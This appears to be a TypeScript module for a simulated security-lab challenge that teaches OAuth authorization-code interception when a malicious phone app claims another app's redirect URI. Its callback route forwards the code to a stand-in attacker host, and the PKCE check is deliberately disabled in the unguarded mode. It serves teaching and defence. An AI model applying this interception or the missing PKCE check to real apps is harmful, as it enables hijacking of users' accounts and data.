// Campus gives tokens to whoever brings a code. Planner is an app on Alice's phone; another app there has claimed Planner's
// address, and what is sent to it lands with the attacker.
import type { Opened, World } from '@/lib/lab/challenge'
import { sha256 } from '@/lib/crypto/hash'
import { CAMPUS } from '@/lib/lab/world/campus'
import { ATTACKER } from '@/lib/lab/world/attacker-server'
import { address, redirect, routes } from '@/lib/lab/world/http'
import { checkPkce } from '@/lib/lab/world/pkce'
import {
  AUTHORIZE,
  PLANNER,
  PLANNER_CLIENT,
  SIGNED_IN_AT_CAMPUS,
  campusServer,
} from '@/lib/lab/world/planner'

export function open(world: World): Opened {
  const server = campusServer(world, { rules: { checkPkce: world.guarded ? checkPkce : () => undefined } })
  /** The verifier stays in the real app's memory. */
  const start = () => {
    const verifier = world.random('verifier')
    return redirect(
      address(AUTHORIZE, {
        response_type: 'code',
        client_id: PLANNER_CLIENT.id,
        redirect_uri: `${PLANNER}/callback`,
        scope: 'courses:read',
        state: world.random('state'),
        code_challenge: sha256(verifier),
        code_challenge_method: 'S256',
      }),
    )
  }
  const planner = routes({
    'GET /start': start,
    // The phone asks no one which of two apps is meant.
    'GET /callback': ({ url }) => redirect(`${ATTACKER}/claimed-link${url.search}`),
  })
  let isTaken = false
  const api = async (request: Request): Promise<Response> => {
    const { pathname } = new URL(request.url)
    if (pathname !== '/api/me') return server.host(request)
    const token = /^Bearer (.+)$/i.exec(request.headers.get('authorization') ?? '')?.[1] ?? ''
    const owner = server.ownerOf(token)
    isTaken ||= owner?.name === 'Alice'
    return owner
      ? Response.json({ name: owner.name, email: owner.email, courses: ['python-foundation', 'ai-systems'] })
      : Response.json({ error: 'invalid_token' }, { status: 401 })
  }
  return {
    hosts: { [CAMPUS]: api, [PLANNER]: planner },
    cookies: SIGNED_IN_AT_CAMPUS,
    isWon: () => isTaken,
    victim: () => [
      { label: 'Signed in at Campus as', value: 'Alice' },
      {
        label: 'Who has read her courses',
        value: isTaken ? 'Mallory' : 'nobody else',
        ...(isTaken && { tone: 'bad' }),
      },
    ],
  }
}
